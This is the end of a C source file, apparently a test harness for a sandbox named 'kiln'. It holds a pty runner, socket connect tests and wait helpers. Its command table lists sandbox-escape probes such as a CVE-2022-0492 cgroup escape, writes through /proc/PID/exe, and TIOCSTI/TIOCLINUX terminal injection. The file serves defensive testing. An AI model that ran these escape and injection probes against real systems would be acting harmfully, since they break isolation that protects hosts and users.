	fflush(NULL);
	pid = fork();
	if (pid < 0) {
		perror("fork");
		return 2;
	}
	if (pid == 0) {
		if (setsid() < 0 || ioctl(s, TIOCSCTTY, 0) < 0 || dup2(s, 0) < 0 ||
		    dup2(s, 1) < 0 || dup2(s, 2) < 0)
			_exit(2);
		execvp(argv[i], argv + i);
		_exit(127);
	}
	/* Copy the master's output until the child is gone and nothing more
	 * arrives; we keep the slave open to inspect its input queue. */
	for (;;) {
		struct pollfd p = {.fd = m, .events = POLLIN};
		char buf[4096];
		int r = poll(&p, 1, done ? 200 : 100);

		if (r > 0 && (p.revents & POLLIN)) {
			ssize_t n = read(m, buf, sizeof(buf));

			if (n > 0) {
				ssize_t off = 0;

				while (off < n) {
					ssize_t w = write(out, buf + off, (size_t)(n - off));

					if (w < 0)
						break;
					off += w;
				}
				continue;
			}
		}
		if (done)
			break;
		if (waitpid(pid, &status, WNOHANG) == pid)
			done = true;
	}
	if (ioctl(s, FIONREAD, &inq) < 0)
		inq = -1;
	{
		char q[256];
		ssize_t n = 0;
		int fl = fcntl(s, F_GETFL);

		if (fl >= 0 && fcntl(s, F_SETFL, fl | O_NONBLOCK) == 0 && inq > 0)
			n = read(s, q, sizeof(q));
		fprintf(stderr, "PTY-INQ %d\n", inq);
		fprintf(stderr, "PTY-INJECTED \"");
		for (ssize_t k = 0; k < n; k++)
			fprintf(stderr, isprint((unsigned char)q[k]) ? "%c" : "\\x%02x",
				(unsigned char)q[k]);
		fprintf(stderr, "\"\n");
	}
	if (WIFSIGNALED(status))
		return 128 + WTERMSIG(status);
	return WEXITSTATUS(status);
}

/* ---- sockets (for the network tests) ---------------------------------- */

static int connect_to(int fam, const struct sockaddr *sa, socklen_t len, const char *label)
{
	int fd = socket(fam, SOCK_STREAM | SOCK_CLOEXEC, 0);
	long r;

	if (fd < 0)
		return (int)result(-1, errno, "%s (socket)", label);
	r = TRY(connect(fd, sa, len), "%s", label);
	if (r >= 0 && write(fd, "kiln-attack\n", 12) < 0)
		say("%s: write: %s\n", label, errname(errno));
	close(fd);
	return (int)r;
}

/* connect-abstract NAME | connect-unix PATH | connect-tcp ADDR PORT */
static int cmd_connect(int argc, char **argv)
{
	if (strcmp(argv[0], "connect-tcp") == 0) {
		struct sockaddr_in in4;
		struct sockaddr_in6 in6;

		if (argc < 3)
			usage("connect-tcp ADDR PORT");
		memset(&in4, 0, sizeof(in4));
		memset(&in6, 0, sizeof(in6));
		if (inet_pton(AF_INET, argv[1], &in4.sin_addr) == 1) {
			in4.sin_family = AF_INET;
			in4.sin_port = htons((uint16_t)num(argv[2]));
			connect_to(AF_INET, (struct sockaddr *)&in4, sizeof(in4), "connect-tcp");
		} else if (inet_pton(AF_INET6, argv[1], &in6.sin6_addr) == 1) {
			in6.sin6_family = AF_INET6;
			in6.sin6_port = htons((uint16_t)num(argv[2]));
			connect_to(AF_INET6, (struct sockaddr *)&in6, sizeof(in6), "connect-tcp");
		} else {
			usage("connect-tcp: bad address %s", argv[1]);
		}
	} else {
		struct sockaddr_un un;
		socklen_t len;
		bool abstract = strcmp(argv[0], "connect-abstract") == 0;
		size_t n;

		if (argc < 2)
			usage("%s NAME", argv[0]);
		memset(&un, 0, sizeof(un));
		un.sun_family = AF_UNIX;
		n = strlen(argv[1]);
		if (n + 1 > sizeof(un.sun_path))
			usage("name too long");
		memcpy(un.sun_path + (abstract ? 1 : 0), argv[1], n);
		len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + n + (abstract ? 1 : 0));
		connect_to(AF_UNIX, (struct sockaddr *)&un, len, argv[0]);
	}
	return finish();
}

/* ---- waiting ---------------------------------------------------------- */

static volatile sig_atomic_t g_sig;
static void on_sig(int s)
{
	g_sig = s;
}

/* wait-signal [SECS]: print READY, wait for SIGUSR1 (exit 0) or time out (3). */
static int cmd_wait_signal(int argc, char **argv)
{
	unsigned secs = argc > 1 ? (unsigned)num(argv[1]) : 30;
	struct sigaction sa;
	time_t end = time(NULL) + (time_t)secs;

	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = on_sig;
	sigaction(SIGUSR1, &sa, NULL);
	say("READY %d\n", (int)getpid());
	while (!g_sig && time(NULL) < end) {
		struct timespec ts = {0, 50 * 1000 * 1000};

		nanosleep(&ts, NULL);
	}
	if (!g_sig)
		return 3;
	say("GOT SIGNAL %d\n", (int)g_sig);
	return 0;
}

/* wait-file PATH [SECS]: wait until PATH exists (exit 0) or time out (3). */
static int cmd_wait_file(int argc, char **argv)
{
	unsigned secs = argc > 2 ? (unsigned)num(argv[2]) : 30;
	time_t end = time(NULL) + (time_t)secs;
	struct stat st;

	if (argc < 2)
		usage("wait-file PATH [SECS]");
	say("READY %d\n", (int)getpid());
	while (time(NULL) < end) {
		struct timespec ts = {0, 50 * 1000 * 1000};

		if (stat(argv[1], &st) == 0)
			return 0;
		nanosleep(&ts, NULL);
	}
	return 3;
}

/* ---- main ------------------------------------------------------------- */

static const struct {
	const char *name;
	int (*fn)(int, char **);
	const char *help;
} cmds[] = {
	{"ids", cmd_ids, "ids, capabilities, no_new_privs, seccomp, securebits"},
	{"read", cmd_read, "PATH... : print file contents"},
	{"open-write", cmd_open_write, "PATH [DATA] : open O_WRONLY (no create), write"},
	{"open-rdwr", cmd_open_write, "PATH [DATA]"},
	{"open-trunc", cmd_open_write, "PATH [DATA]"},
	{"open-append", cmd_open_write, "PATH [DATA]"},
	{"write-file", cmd_write_file, "PATH DATA : create or replace"},
	{"create", cmd_create, "PATH [MODE] [DATA] : openat O_CREAT|O_EXCL with MODE"},
	{"creat", cmd_creat, "PATH MODE"},
	{"open-creat", cmd_open_creat, "PATH MODE : open(2) O_CREAT"},
	{"mkdir", cmd_mkdir, "PATH [MODE]"},
	{"mkdirat", cmd_mkdir, "PATH [MODE]"},
	{"chmod", cmd_chmod, "PATH MODE"},
	{"fchmod", cmd_chmod, "PATH MODE"},
	{"fchmodat", cmd_chmod, "PATH MODE"},
	{"fchmodat2", cmd_chmod, "PATH MODE [FLAGS]"},
	{"mknod", cmd_mknod, "PATH c|b|p|f|s [MAJ MIN] [PERM]"},
	{"mknodat", cmd_mknod, "PATH c|b|p|f|s [MAJ MIN] [PERM]"},
	{"stat", cmd_stat, "PATH..."},
	{"syscall", cmd_syscall, "NAME|NR [ARG]... (number, s:TEXT, b:SIZE)"},
	{"int80", cmd_int80, "NR [ARG]... : i386 syscall via int $0x80"},
	{"int80-mkdir", cmd_int80, "PATH : i386 mkdir"},
	{"x32", cmd_x32, "NR [ARG]... : x32 syscall (nr | 0x40000000)"},
	{"x32-mkdir", cmd_x32, "PATH : x32 mkdir"},
	{"unshare", cmd_unshare, "NS[,NS]...|FLAGS"},
	{"clone", cmd_clone, "NS[,NS]...|FLAGS"},
	{"clone3", cmd_clone, "NS[,NS]...|FLAGS"},
	{"mount", cmd_mount, "SRC TARGET FSTYPE [FLAGS] [DATA]"},
	{"kernel", cmd_kernel, "NAME...|all|list : realistic kernel-surface calls"},
	{"cgroup-escape", cmd_cgroup_escape, "[DIR] [AGENT] : CVE-2022-0492 sequence"},
	{"fd-scan", cmd_fd_scan, "[MAX] : inspect every open fd"},
	{"cwd-escape", cmd_cwd_escape, "NAME : find NAME in a leaked cwd"},
	{"proc-dump", cmd_proc_dump, "PID...|all"},
	{"exe-write", cmd_exe_write, "PID...|all : write through /proc/PID/exe"},
	{"dump-tree", cmd_dump_tree, "DIR... : print every file under DIR"},
	{"tiocsti", cmd_tty_ioctl, "FD|PATH..."},
	{"tiocsti-high", cmd_tty_ioctl, "FD|PATH... : request 0xffffffff00005412"},
	{"tioclinux", cmd_tty_ioctl, "FD|PATH..."},
	{"tioclinux-high", cmd_tty_ioctl, "FD|PATH..."},
	{"tty-attack", cmd_tty_attack, ": every injection road; prints ATTEMPTS n"},
	{"pty-run", cmd_pty_run, "[-o FILE] -- CMD... : run CMD on a fresh pty"},
	{"connect-abstract", cmd_connect, "NAME"},
	{"connect-unix", cmd_connect, "PATH"},
	{"connect-tcp", cmd_connect, "ADDR PORT"},
	{"wait-signal", cmd_wait_signal, "[SECS] : READY, then wait for SIGUSR1"},
	{"wait-file", cmd_wait_file, "PATH [SECS]"},
};

int main(int argc, char **argv)
{
	int i = 1;

	setvbuf(stdout, NULL, _IONBF, 0);
	while (i < argc && argv[i][0] == '-') {
		if (strcmp(argv[i], "-m") == 0 && i + 1 < argc) {
			g_marker = argv[i + 1];
			i += 2;
		} else if (strcmp(argv[i], "--") == 0) {
			i++;
			break;
		} else {
			break;
		}
	}
	if (i >= argc || strcmp(argv[i], "help") == 0 || strcmp(argv[i], "--help") == 0) {
		for (size_t k = 0; k < ARRAY_SIZE(cmds); k++)
			fprintf(stderr, "  %-16s %s\n", cmds[k].name, cmds[k].help);
		return i >= argc ? 2 : 0;
	}
	for (size_t k = 0; k < ARRAY_SIZE(cmds); k++)
		if (strcmp(argv[i], cmds[k].name) == 0)
			return cmds[k].fn(argc - i, argv + i);
	usage("unknown subcommand %s (try: help)", argv[i]);
}
